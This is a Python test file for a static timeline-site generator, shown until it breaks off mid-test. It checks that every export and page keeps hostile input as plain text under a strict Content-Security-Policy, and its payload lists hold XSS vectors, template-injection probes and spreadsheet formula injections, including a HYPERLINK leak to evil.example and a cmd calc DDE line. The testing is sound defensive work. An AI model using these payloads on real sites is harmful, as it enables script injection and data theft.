"""Hostile but legal content stays text; every page keeps to the exact Content-Security-Policy.

tests/fixtures/hostile-content passes `build.py check` (warned only that the
text inside its <script> and <style> payloads will not show), yet every
free-text field of the schema carries payloads: script, event handlers,
javascript: and data: links, Jinja syntax, closers for <title>, <textarea>,
CDATA and comments, spreadsheet formulas. A payload that became live would
show as an element with id=pwned, class=pwned or data-pwned, or as an
alert('pwned') dialog. The build is opened page by page in Chromium, its
exports are parsed, and what a reader sees is compared with what the editor
typed, character for character: double escaping is a failure too.

The policy is checked on the real site: no violation while every page loads
and while searching, with Pagefind's web worker and without it (Pagefind
then compiles its WebAssembly on the page itself).
"""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import re
import shutil
import subprocess
import sys
from collections import defaultdict
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit
from xml.etree import ElementTree

import bibtexparser
import feedparser
import jsonschema_rs
import pytest
import rispy
import yaml
from bibtexparser.middlewares import LatexDecodingMiddleware
from conftest import FIXTURES, HOSTILE, ROOT, require_node_tool, run_build
from jsonschema import Draft202012Validator

from timeline import cite, embed, exports, search
from timeline.check import check
from timeline.dates import PartialDate, display_range
from timeline.model import Source
from timeline.problems import shown
from timeline.render import CSP, address_problem, site_path
from timeline.schema import load_schema
from timeline.seeds import SeedFileError, Seeds
from timeline.site import SiteData

# ---- the payloads -------------------------------------------------------------

# TimelineJS 3.9 makes a link of an address in a slide's text when the slide lets it (its
# default), with href='...' built without escaping: this one would then close the href and
# add a handler that runs as the page shows it, without a click.
AUTOLINK = "www.x'style='animation:rotateplane'onanimationstart=alert(1)//x"

# In every plain-text field (titles, labels, notes, quotes) and in the seed documents.
# The schema's pattern for "any text that is not blank" (see its $comment).
NOT_BLANK = r"[^\s\x1c-\x1f\x85\xad\u200b-\u200f\u2060-\u2064\ufeff]"
PLAIN = [
    "<script>alert('pwned')</script>",
    "<img src=x id=pwned onerror=alert('pwned')>",
    "\"><svg class=pwned onload=alert('pwned')>",
    "'><svg data-pwned onload=alert('pwned')>",
    "<svg><script>alert('pwned')</script></svg>",
    "<iframe id=pwned src=\"javascript:alert('pwned')\"></iframe>",
    "<style class=pwned>body{display:none}</style>",
    "<a id=pwned href=\"javascript:alert('pwned')\">x</a>",
    "[x](javascript:alert('pwned'))",
    "[x](data:text/html,<script>alert('pwned')</script>)",
    "[x](JaVaScRiPt:alert('pwned'))",
    '[x](vbscript:msgbox("pwned"))',
    "<object id=pwned data=\"javascript:alert('pwned')\"></object>",
    "<embed id=pwned src=\"javascript:alert('pwned')\">",
    "<form id=pwned action=\"javascript:alert('pwned')\"><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'pwned\')">',
    "<base href=\"javascript:alert('pwned')//\">",
    "{{ 7*7 }}",
    "{{ 7*191919 }}",  # 1343433 if it were ever evaluated: a number found nowhere else
    "{% raw %}",
    "{{ config }}",
    "{{ ''.__class__ }}",
    "' \" ` quotes",
    "</title><script>alert('pwned')</script>",
    "</textarea><img src=x id=pwned onerror=alert('pwned')>",
    "]]><img src=x id=pwned onerror=alert('pwned')>",
    "--><img src=x id=pwned onerror=alert('pwned')>",
    "&lt;img src=x id=pwned onerror=alert('pwned')&gt;",
    "AT&T <b>",
    AUTOLINK,
]
# Each starts a cell of events.csv somewhere: a spreadsheet would run it as a formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"pwned")',
    "+cmd|' /C calc'!A0 pwned",
    "-2+3 pwned",
    "@SUM(1+1) pwned",
]
# In the Markdown fields: raw HTML the sanitizer must drop, legal links with
# handlers and images from elsewhere, and text that must stay text. Links with
# other schemes than http, https and mailto are refused by the check, so here
# they are escaped or code.
MARKDOWN = [
    "<script>alert('pwned')</script>",
    "<img src=x id=pwned onerror=alert('pwned')>",
    "\"><svg class=pwned onload=alert('pwned')>",
    "<svg><script>alert('pwned')</script></svg>",
    '<iframe id=pwned src="https://evil.example/pwned"></iframe>',
    "<style class=pwned>body{display:none}</style>",
    "\\[x](javascript:alert('pwned'))",
    "\\[x](data:text/html,<script>alert('pwned')</script>)",
    "\\[x](JaVaScRiPt:alert('pwned'))",
    '\\[x](vbscript:msgbox("pwned"))',
    "`[x](javascript:alert('pwned'))`",
    '<object id=pwned data="https://evil.example/pwned.swf"></object>',
    '<embed id=pwned src="https://evil.example/pwned.swf">',
    '<form id=pwned action="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'onclick="alert(\'pwned\')" class="pwned" style="color:red" data-pwned',
    "![pwned](https://evil.example/pwned.png)",
    "onmouseover=alert('pwned')",
    "<details open ontoggle=alert('pwned')>",
    "<math><mtext><table><mglyph><style><img src=x id=pwned onerror=alert('pwned')>",
    "<noscript><p title=\"</noscript><img src=x id=pwned onerror=alert('pwned')>\">",
    "<!--><img src=x id=pwned onerror=alert('pwned')>-->",
    "{{ 7*7 }}",
    "{{ 7*191919 }}",
    "{% raw %} {{ config }}",
    "`{{ ''.__class__ }}`",
    "</title> </textarea> ]]> -->",
    "```\n<script>alert('pwned')</script>\n```",
    AUTOLINK,
]

# What a reader sees of those: escaped, in code, or plain text the sanitizer left alone.
MARKDOWN_SHOWN = [
    "{{ 7*7 }}", "{{ 7*191919 }}", "{% raw %} {{ config }}", "{{ ''.__class__ }}",
    "[x](javascript:alert('pwned'))", "[x](JaVaScRiPt:alert('pwned'))", "<a href=\"javascript:alert('pwned')\">x</a>",
    "<script>alert('pwned')</script>", "]]> -->", "AT&T bold", "<img src=x id=pwned onerror=alert('pwned')>",
]  # fmt: skip

# The schema's free-text fields: strings with no pattern beyond "not blank".
# Ids, dates, file names and the two addresses are pattern-restricted.
FREE_TEXT_FIELDS = [
    "site.title", "site.description", "topics.*", "actors.*", "eras[].title", "eras[].summary",
    "sources[].title", "sources[].publisher", "sources[].assessment", "sources[].body.first",
    "sources[].body.last", "events[].date_note", "events[].title", "events[].summary",
    "events[].status_note", "events[].citations[].quote", "events[].citations[].note",
    "sources[].url_note", "sources[].outside_facts[].fact", "sources[].outside_facts[].record",
    "events[].outside_facts[].fact", "events[].outside_facts[].record", "events[].history[].note",
    "withdrawn[].title", "withdrawn[].reason", "brief.headline", "brief.points[].text",
    "sources[].short_name", "events[].key",
]  # fmt: skip
MARKDOWN_FIELDS = {"eras[].summary", "sources[].assessment", "events[].summary"}
# One value each (or one per source): a payload in each, not every payload.
SINGLE_FIELDS = {
    "site.title",
    "site.description",
    "sources[].body.first",
    "sources[].body.last",
    "brief.headline",
}
# Labels of at most 64 characters: too short for every payload, so each holds one of these.
SHORT_FIELDS = {"sources[].short_name", "events[].key"}
SHORT_PAYLOADS = [AUTOLINK, "<script>alert('pwned')</script>", "\"><svg class=pwned onload=alert('pwned')>",
                  "</title> </textarea> ]]> -->", "@SUM(1+1) pwned"]  # fmt: skip

# What a sanitized fragment of HTML may hold (feed entries, summary_html, TimelineJS text).
SAFE_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "em", "i", "li", "ol", "p", "pre", "strong",
             "sub", "sup", "ul"}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
UNSAFE_SCHEME = re.compile(r"^(javascript|data|vbscript):", re.I)

# The policy, directive by directive. 'wasm-unsafe-eval' lets Pagefind compile its
# WebAssembly on the page when its web worker is not used; it does not allow eval().
EXPECTED_POLICY = {
    "default-src": ["'self'"],
    "script-src": ["'self'", "'wasm-unsafe-eval'"],
    "style-src": ["'self'"],
    "img-src": ["'self'"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],  # the site has no form
}


def unsafe_address(value: str) -> bool:
    """A javascript:, data: or vbscript: address, as a browser reads it (controls and spaces dropped)."""
    return bool(UNSAFE_SCHEME.match(re.sub(r"[\x00-\x20]", "", html.unescape(value))))


def words(text: str) -> str:
    return " ".join(text.split())


# ---- the fixture: legal, and every free-text field is hostile ----------------------


@pytest.fixture(scope="module")
def timeline():
    checked = check(HOSTILE / "events.yaml", HOSTILE / "seeds")
    assert checked.errors == [], [p.message for p in checked.errors]
    # The only warnings: the <script> and <style> payloads' text will not show.
    assert all("would not show on the page" in p.message for p in checked.warnings)
    assert checked.timeline is not None
    return checked.timeline


def free_text(node: dict[str, Any], value: Any, path: str = "") -> Iterator[tuple[str, Any]]:
    """(field, value) for each free-text string of the schema; value None where the data has none."""
    if "$ref" in node:
        node = {**load_schema()["$defs"][node["$ref"].rsplit("/", 1)[1]], **node}
    kind = node.get("type")
    if kind == "object":
        value = value if isinstance(value, dict) else {}
        for name, sub in node.get("properties", {}).items():
            yield from free_text(sub, value.get(name), f"{path}.{name}" if path else name)
        if isinstance(node.get("additionalProperties"), dict):
            for item in list(value.values()) or [None]:
                yield from free_text(node["additionalProperties"], item, f"{path}.*")
    elif kind == "array":
        for item in (value if isinstance(value, list) else []) or [None]:
            yield from free_text(node["items"], item, f"{path}[]")
    elif kind == "string" and node.get("pattern", NOT_BLANK) == NOT_BLANK:
        yield path, value


def test_the_fixture_is_legal_and_every_free_text_field_carries_payloads(timeline):
    data = yaml.safe_load((HOSTILE / "events.yaml").read_text(encoding="utf-8"))
    found: dict[str, list[str]] = defaultdict(list)
    for field, value in free_text(load_schema(), data):
        found[field].extend([value] if value is not None else [])
    assert sorted(found) == sorted(FREE_TEXT_FIELDS), "a field was added to the schema: give it payloads"
    for field, values in found.items():
        assert values, f"{field}: the fixture has no value"
        text = "\n".join(values)
        assert all(any(p in v for p in PLAIN + FORMULAS + MARKDOWN) for v in values), field
        if field in SINGLE_FIELDS:
            continue
        wanted = MARKDOWN if field in MARKDOWN_FIELDS else SHORT_PAYLOADS if field in SHORT_FIELDS else PLAIN
        assert [p for p in wanted if p not in text] == [], field
    starts = [e.title for e in timeline.events] + [e.summary for e in timeline.events]
    assert all(any(s.startswith(f) for s in starts) for f in FORMULAS)
    for seed in (HOSTILE / "seeds").iterdir():
        assert [p for p in PLAIN if p not in seed.read_text(encoding="utf-8")] == [], seed.name


# ---- the exports: they parse, and hold the payloads as text -----------------------


class _Audit(HTMLParser):
    """A fragment of HTML as a browser would read it: what it may not hold, and its text."""

    def __init__(self, tags: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "id", "class") or name.startswith("data-"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and value and (unsafe_address(value) or "evil.example" in value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def audit(fragment: str, tags: set[str] = SAFE_TAGS) -> str:
    """The text of a safe fragment of HTML; fails on anything unsafe in it."""
    parser = _Audit(tags)
    parser.feed(fragment)
    parser.close()
    assert parser.problems == [], fragment
    return "".join(parser.text)


def test_the_feed_parses_and_holds_the_payloads_as_text(hostile_site, timeline):
    raw = (hostile_site / "feed.xml").read_bytes()
    atom = {"a": "http://www.w3.org/2005/Atom"}
    root = ElementTree.fromstring(raw)  # well-formed, whatever the titles hold
    assert root.findtext("a:title", namespaces=atom) == timeline.site.title
    assert root.findtext("a:subtitle", namespaces=atom) == timeline.site.description
    entries = root.findall("a:entry", atom)
    by_url = {f"{timeline.site.base_url}events/{e.id}/": e for e in timeline.events}
    assert sorted(entry.findtext("a:id", namespaces=atom) for entry in entries) == sorted(by_url)
    for entry in entries:
        event = by_url[entry.findtext("a:id", namespaces=atom)]
        assert entry.findtext("a:title", namespaces=atom) == event.title
        labels = [c.get("label") for c in entry.findall("a:category", atom)]
        assert labels == [next(t.label for t in timeline.topics if t.id == key) for key in event.topics]
        content = entry.find("a:content", atom)
        assert content is not None
        assert content.get("type") == "html"
        text = audit(content.text or "")  # the HTML a feed reader shows
        assert all(citation.quote in text for citation in event.citations)
    feed = feedparser.parse(raw, sanitize_html=False)
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.feed.title == timeline.site.title
    assert [e.title for e in feed.entries] == [e.findtext("a:title", namespaces=atom) for e in entries]


def test_events_json_holds_every_text_exactly(hostile_site, timeline):
    data = json.loads((hostile_site / "events.json").read_text(encoding="utf-8"))
    schema = json.loads((ROOT / "schema" / "events.export.schema.json").read_text())
    assert [e.message for e in Draft202012Validator(schema).iter_errors(data)] == []
    assert data["site"]["title"] == timeline.site.title
    assert data["site"]["description"] == timeline.site.description
    assert [(t["id"], t["label"]) for t in data["topics"]] == [(t.id, t.label) for t in timeline.topics]
    assert [(e["title"], e["summary"]) for e in data["eras"]] == [(e.title, e.summary) for e in timeline.eras]
    for record, source in zip(data["sources"], timeline.sources, strict=True):
        assert (record["title"], record["publisher"], record["assessment"], record["original_url"]) == (
            source.title, source.publisher, source.assessment, source.url,
        )  # fmt: skip
    events = {e.id: e for e in timeline.events}
    for record in data["events"]:
        event = events[record["id"]]
        assert record["title"] == event.title
        assert record["summary"] == event.summary
        assert record["date_note"] == event.date_note
        assert record["status_note"] == event.status_note
        assert [(c["quote"], c["note"]) for c in record["citations"]] == [
            (c.quote, c.note) for c in event.citations
        ]
        audit(record["summary_html"])


def test_events_csv_holds_the_text_and_no_cell_starts_a_formula(hostile_site, timeline):
    rows = list(csv.DictReader(io.StringIO((hostile_site / "events.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(timeline.events)
    starting = [(r["id"], k, v[:20]) for r in rows for k, v in r.items() if v[:1] in ("=", "+", "-", "@")]
    assert starting == []
    events = {e.id: e for e in timeline.events}
    for row in rows:
        event = events[row["id"]]
        typed = {"title": event.title, "summary": event.summary, "date_note": event.date_note or "",
                 "status_note": event.status_note or ""}  # fmt: skip
        for column, value in typed.items():
            # A formula-like text keeps every character, behind the apostrophe spreadsheets hide.
            kept = f"'{value}" if value.startswith(("=", "+", "-", "@")) else value
            assert row[column] == kept, (row["id"], column)
        assert row["quotes"] == " | ".join(c.quote for c in event.citations)
    assert any(row["title"].startswith("'=HYPERLINK(") for row in rows)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("1-2", "1-2"),
        ("", ""),
        ("'quoted'", "'quoted'"),
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text(value, cell):
    assert exports.spreadsheet_text(value) == cell


# What timeline.json's headlines and texts may hold: <wbr> shows nothing, and breaks "www."
# so that TimelineJS's autolinking cannot take it for the start of an address.
TIMELINEJS_TAGS = SAFE_TAGS | {"wbr"}
# A well-formed tag whose attributes are all in double quotes, without a raw quote inside.
TAG = re.compile(r'<[a-z]+(?: [a-z-]+="[^"\'<>]*")*>|</[a-z]+>')


def for_timelinejs(fragment: str) -> str:
    """The text of a headline or text of timeline.json; fails on what TimelineJS could misread."""
    # No raw quote, in text or in an attribute, for a TimelineJS that works on the string.
    assert re.search(r"[<>'\"]", TAG.sub("", fragment)) is None, fragment
    # No "www." for its autolinking to start from (3.9 decodes &#39; before it links).
    assert re.search(r"www\.", TAG.sub("|", fragment), re.I) is None, fragment
    return audit(fragment, TIMELINEJS_TAGS)


def test_timeline_json_holds_every_text_exactly(hostile_site, timeline):
    data = json.loads((hostile_site / "timeline.json").read_text(encoding="utf-8"))
    events = {e.id: e for e in timeline.events}
    eras = {e.id: e for e in timeline.eras}
    site = json.loads((hostile_site / "events.json").read_text(encoding="utf-8"))
    summaries = {e["id"]: audit(e["summary_html"]) for e in site["events"]}
    # TimelineJS inserts headlines and texts as HTML: ours are escaped text and sanitized HTML.
    assert for_timelinejs(data["title"]["text"]["headline"]) == timeline.site.title
    assert for_timelinejs(data["title"]["text"]["text"]) == timeline.site.description
    # ...and makes links of addresses in them unless the slide says not to.
    assert data["title"]["autolink"] is False
    assert [slide["autolink"] for slide in data["events"]] == [False] * len(timeline.events)
    for slide in data["events"]:
        event = events[slide["unique_id"]]
        assert for_timelinejs(slide["text"]["headline"]) == event.title
        assert for_timelinejs(slide["text"]["text"]).startswith(summaries[event.id])
        # TimelineJS takes a group's text out of HTML, then inserts that text as HTML:
        # escaped twice, the reader sees the title as typed.
        assert html.unescape(html.unescape(slide["group"])) == eras[event.era].title
        assert "<" not in html.unescape(slide["group"])
        assert html.unescape(html.unescape(slide["display_date"])) == slide["display_date"]
    assert [for_timelinejs(e["text"]["headline"]) for e in data["eras"]] == [e.title for e in timeline.eras]
    assert AUTOLINK in summaries["event-2"]


def test_each_topic_and_actor_feed_parses_and_holds_the_payloads_as_text(hostile_site, timeline):
    atom = {"a": "http://www.w3.org/2005/Atom"}
    feeds = 0
    for plural, terms, key in (("topics", timeline.topics, "topics"), ("actors", timeline.actors, "actors")):
        for term in terms:
            events = {
                f"{timeline.site.base_url}events/{e.id}/": e
                for e in timeline.events
                if term.id in getattr(e, key)
            }
            path = hostile_site / plural / term.id / "feed.xml"
            if not events:
                continue
            raw = path.read_bytes()
            root = ElementTree.fromstring(raw)
            assert root.findtext("a:title", namespaces=atom) == f"{timeline.site.title}: {term.label}"
            for entry in root.findall("a:entry", atom):
                event = events.pop(entry.findtext("a:id", namespaces=atom))
                assert entry.findtext("a:title", namespaces=atom) == event.title
                text = audit(entry.findtext("a:content", namespaces=atom) or "")
                assert all(citation.quote in text for citation in event.citations)
            assert events == {}
            feed = feedparser.parse(raw, sanitize_html=False)
            assert not feed.bozo, feed.get("bozo_exception")
            feeds += 1
    assert feeds == len(timeline.topics) + len(timeline.actors)


def test_the_citation_files_hold_every_text_as_data(hostile_site, timeline):
    """BibTeX: braces and backslashes escaped, so a title cannot close its field or add one; RIS:
    one line per field, so a title cannot start a record; CSL-JSON: JSON. Each read back."""
    sources = {s.id: s for s in timeline.sources}
    for event in timeline.events:
        folder = hostile_site / "events" / event.id
        cited = [sources[k] for k in dict.fromkeys(c.source for c in event.citations)]
        library = bibtexparser.parse_string(
            (folder / "citation.bib").read_text(encoding="utf-8"),
            append_middleware=[LatexDecodingMiddleware()],
        )
        assert library.failed_blocks == []
        assert [e.key for e in library.entries] == [event.id, *(s.id for s in cited)]
        titles = [e["title"].replace("\u02c6", "^") for e in library.entries]  # see test_cite
        assert titles == [cite.one_line(event.title), *(cite.one_line(s.title) for s in cited)]
        allowed = {"title", "author", "year", "month", "date", "url", "urldate", "note"}
        assert [f.key for e in library.entries for f in e.fields if f.key not in allowed] == []
        records = rispy.loads((folder / "citation.ris").read_text(encoding="utf-8"))
        assert [r["title"] for r in records] == [
            cite.one_line(event.title),
            *(cite.one_line(s.title) for s in cited),
        ]
        assert [r["id"] for r in records] == [event.id, *(s.id for s in cited)]
        items = json.loads((folder / "citation.json").read_text(encoding="utf-8"))
        assert [(i["title"], i["author"]) for i in items] == [
            (event.title, [{"literal": timeline.site.title}]),
            *((s.title, [{"literal": s.short_name if s.publisher.startswith("[") and s.short_name else s.publisher}])
              for s in cited),
        ]  # fmt: skip


def test_oembed_holds_the_embed_code_with_every_text_escaped(hostile_site, timeline):
    site = timeline.site
    for event in timeline.events:
        raw = (hostile_site / "embed" / "events" / event.id / "oembed.json").read_text(encoding="utf-8")
        assert not re.search("[<>&]", raw)  # \u escapes: inert even if a host served it as a page
        document = json.loads(raw)
        assert (document["title"], document["provider_name"], document["provider_url"]) == (
            event.title, site.title, site.base_url,
        )  # fmt: skip
        assert document["html"] == embed.code(site, event)
        code = _Tags()
        code.feed(document["html"])
        assert [t for t, _ in code.tags] == ["iframe", "p", "a"]
        [(_, frame), _, (_, link)] = code.tags
        assert set(frame) == {"src", "title", "width", "height", "loading", "referrerpolicy"}
        assert frame["title"] == f"{event.title} — {site.title}"
        assert frame["src"] == f"{site.base_url}embed/events/{event.id}/"
        assert link == {"href": f"{site.base_url}events/{event.id}/"}
        assert audit(document["html"].split("</iframe>", 1)[1]).strip() == f"{event.title} — {site.title}"


def test_nothing_was_evaluated_anywhere(hostile_site):
    """{{ 7*191919 }} is all over the fixture; its value must appear in no file of the build."""
    built = [p for p in hostile_site.rglob("*") if p.is_file() and "pagefind" not in p.parts]
    assert len(built) > 50
    assert [p.name for p in built if b"1343433" in p.read_bytes()] == []


def json_ld_blocks(page: str) -> list[str]:
    """The raw text of each JSON-LD block in a page, as an HTML parser ends it (at the first
    `</script`, whatever the JSON says)."""
    return re.findall(r'<script type="application/ld\+json">(.*?)</script', page, flags=re.S | re.I)


def test_the_json_ld_holds_the_payloads_as_text_and_cannot_end_its_element(hostile_site, timeline):
    """Every page's JSON-LD parses whole, holds no character that could end the element or start
    a comment in it (`<`, `>`, `&`, U+2028, U+2029 are escaped), and gives each hostile text back
    exactly as typed."""
    # The embeds are framed by other sites, never shared or indexed: they carry no JSON-LD.
    raw = {
        path: path.read_text(encoding="utf-8")
        for path in html_pages(hostile_site)
        if path.relative_to(hostile_site).parts[0] != "embed"
    }
    assert raw
    for path, page in raw.items():
        blocks = json_ld_blocks(page)
        assert len(blocks) == 1, path
        assert re.search(r"[<>&\u2028\u2029]", blocks[0]) is None, path
        json.loads(blocks[0])  # one whole JSON value: nothing ended the element early
    data = {
        path.relative_to(hostile_site).as_posix(): json.loads(json_ld_blocks(raw[path])[0]) for path in raw
    }
    sources = {source.id: source for source in timeline.sources}
    for event in timeline.events:
        article = data[f"events/{event.id}/index.html"]
        assert article["headline"] == article["about"]["name"] == event.title
        cited = {citation.source for citation in event.citations}
        assert sorted(c["name"] for c in article["citation"]) == sorted(sources[key].title for key in cited)
    for source in timeline.sources:
        document = data[f"sources/{source.id}/index.html"]
        assert document["name"] == source.title
        assert document.get("publisher", {}).get("name", source.publisher) == source.publisher
    index = data["index.html"]
    assert index["description"] == timeline.site.description
    items = index["mainEntity"]["itemListElement"]
    assert {item["url"] for item in items} == {
        f"{timeline.site.base_url}events/{e.id}/" for e in timeline.events
    }
    assert any("</script>" in event.title or "<!--" in event.title for event in timeline.events)


# ---- every page of both builds: one exact policy, no inline code -------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def html_pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("*.html") if "pagefind" not in p.relative_to(site).parts)


def test_the_policy_is_exactly_what_the_site_needs():
    directives = {name: sources for name, *sources in (d.split() for d in CSP.split(";"))}
    assert directives == EXPECTED_POLICY


@pytest.mark.parametrize("build", ["built_site", "hostile_site"])
def test_every_page_carries_the_policy_first_and_no_inline_code(build, request):
    site = request.getfixturevalue(build)
    pages = html_pages(site)
    assert len(pages) > 20
    for path in pages:
        parser = _Tags()
        parser.feed(path.read_text(encoding="utf-8"))
        tags = parser.tags
        where = path.relative_to(site)
        policies = [(i, a) for i, (t, a) in enumerate(tags) if t == "meta" and "http-equiv" in a]
        assert [a for _, a in policies] == [{"http-equiv": "Content-Security-Policy", "content": CSP}], where
        first_resource = min(i for i, (t, _) in enumerate(tags) if t in ("script", "link", "style"))
        assert policies[0][0] < first_resource, f"{where}: the policy must come before what it governs"
        # One inline element is allowed: the JSON-LD data block, which no browser runs (the embeds,
        # framed by other sites, have none).
        inline = [a for t, a in tags if t == "script" and not a.get("src")]
        allowed = [] if where.parts[0] == "embed" else [{"type": "application/ld+json"}]
        assert inline == allowed, f"{where}: inline script"
        assert [t for t, _ in tags if t == "style"] == [], f"{where}: <style>"
        assert [(t, n) for t, a in tags for n in a if n == "style" or n.startswith("on")] == [], where
        assert [
            (t, v) for t, a in tags for n, v in a.items() if n in URL_ATTRIBUTES and v and unsafe_address(v)
        ] == [], where
        assert [t for t, _ in tags if t in ("iframe", "object", "embed", "base", "form")] == [], where


# ---- in Chromium ------------------------------------------------------------------

# Installed before any script of the page: violations of the policy are recorded.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
  `${e.effectiveDirective} blocked ${e.blockedURI || "inline"} at ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
"""

# Anything a payload would have made: elements it names, handlers, unsafe addresses.
INJECTED = """({scope, styles}) => {
  const root = scope ? document.querySelector(scope) : document;
  const found = [];
  const show = (el) => el.outerHTML.slice(0, 160);
  const unsafe = (v) => /^(javascript|data|vbscript):/i.test(v.replace(/[\\u0000-\\u0020]/g, ""));
  const named = "[id=pwned], .pwned, [data-pwned], iframe, frame, object, embed, applet, base, form, style";
  for (const el of root.querySelectorAll(named)) found.push(show(el));
  for (const el of root.querySelectorAll("meta[http-equiv]")) {
    if (el.httpEquiv.toLowerCase() !== "content-security-policy") found.push(show(el));
  }
  // The template's JSON-LD: one data block in <head>, never run. Any other is found.
  const data = document.head.querySelectorAll(':scope > script[type="application/ld+json"]');
  for (const el of root.querySelectorAll("script")) {
    if (data.length === 1 && el === data[0] && !el.src) continue;
    if (!el.src || new URL(el.src).origin !== location.origin) found.push(show(el));
  }
  const urls = ["href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"];
  for (const el of root.querySelectorAll("*")) {
    for (const a of el.attributes) {
      const named = `${a.name}=${JSON.stringify(a.value)} on ${show(el)}`;
      if (a.name.startsWith("on") || (styles && a.name === "style")) found.push(named);
      if (urls.includes(a.name) && unsafe(a.value)) found.push(named);
    }
  }
  return found;
}"""
PAGE = {"scope": None, "styles": True}


class Reader:
    """One browser context on one served build: every dialog, request, violation and error recorded.

    404.html links from the site's published path (the host serves it at any
    depth); requests under that path are answered from the build, as the host would.
    """

    def __init__(
        self, browser, base: str, site: Path, *, published: str = "/", bypass_csp: bool = False
    ) -> None:
        self.base = base
        self.host = urlsplit(base).netloc
        self.site = site
        self.published = published
        self.context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=bypass_csp)
        self.context.add_init_script(RECORD_VIOLATIONS)
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.violations: list[str] = []
        self.warnings: list[str] = []
        self.current = ""
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("pageerror", lambda e: self.errors.append(f"{self.current}: {e}"))
        self.page.on("console", self._console)

    def _console(self, message) -> None:
        if message.type in ("error", "warning"):
            recorded = self.errors if message.type == "error" else self.warnings
            recorded.append(f"{self.current}: {message.text}")

    def _route(self, route) -> None:
        address = urlsplit(route.request.url)
        if address.netloc != self.host:
            route.abort()  # recorded as a request, and fails fast offline
            return
        path = unquote(address.path)
        if self.published != "/" and path.startswith(self.published):
            file = self.site / path.removeprefix(self.published)
            if file.is_file():
                route.fulfill(path=file)
                return
        route.continue_()

    def open(self, path: str):
        self.current = path
        self.page.goto(self.base + path, wait_until="load")
        return self.page

    def settle(self) -> None:
        """Collect what the page recorded; call before leaving it."""
        self.violations += self.page.evaluate("window.__violations")

    def check(self) -> None:
        assert self.dialogs == []
        outside = [u for u in self.requests if urlsplit(u).netloc != self.host]
        assert outside == [], f"requests that left 127.0.0.1: {outside}"
        assert self.requests
        assert self.violations == []
        assert self.errors == []

    def close(self) -> None:
        self.context.close()


def reader_of(browser, site: Path, base: str, **options: Any) -> Reader:
    published = urlsplit(json.loads((site / "events.json").read_text())["site"]["base_url"]).path
    return Reader(browser, base, site, published=published, **options)


@pytest.fixture(scope="module")
def hostile_base(hostile_site, serve):
    return serve(hostile_site)


def text_of(page, selector: str) -> list[str]:
    return [words(t) for t in page.eval_on_selector_all(selector, "els => els.map(e => e.textContent)")]


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("policy", ["enforced", "bypassed"])
def test_no_page_of_the_hostile_build_runs_or_injects_anything(browser, hostile_site, hostile_base, policy):
    """Bypassed, the policy hides nothing: escaping and sanitizing alone keep every payload text."""
    from playwright.sync_api import Error as PlaywrightError

    reader = reader_of(browser, hostile_site, hostile_base, bypass_csp=policy == "bypassed")
    injected = {}
    try:
        for path in html_pages(hostile_site):
            name = path.relative_to(hostile_site).as_posix()
            try:
                page = reader.open(name)
                page.wait_for_timeout(50)  # an onerror or onload would have fired by now
                found = page.evaluate(INJECTED, PAGE)
                assert "1343433" not in page.locator("body").inner_text()
                reader.settle()
            except PlaywrightError as error:  # a refresh or a script took the page away
                found = [f"left the page: {error.message.splitlines()[0]}"]
            if found:
                injected[name] = found
        reader.check()
    finally:
        reader.close()
    assert injected == {}


@pytest.mark.browser
@pytest.mark.slow
def test_a_reader_sees_every_hostile_text_exactly_as_typed(browser, hostile_site, hostile_base, timeline):
    site = timeline.site
    topics = {t.id: t.label for t in timeline.topics}
    actors = {t.id: t.label for t in timeline.actors}
    sources = {s.id: s for s in timeline.sources}
    eras = {e.id: e for e in timeline.eras}
    reader = reader_of(browser, hostile_site, hostile_base)
    try:
        page = reader.open("index.html")
        assert page.title() == site.title
        assert page.locator("meta[name=description]").get_attribute("content") == site.description
        assert text_of(page, ".site-name") == [words(site.title)]
        assert text_of(page, ".front h1") == [words(timeline.brief.headline)]
        points = text_of(page, ".brief-points > li")
        assert len(points) == len(timeline.brief.points)
        assert all(
            shown.startswith(words(p.text)) for shown, p in zip(points, timeline.brief.points, strict=True)
        )
        assert text_of(page, ".era h2") == [words(e.title) for e in timeline.eras]
        assert text_of(page, ".chip[data-filter=topic]") == [words(t.label) for t in timeline.topics]
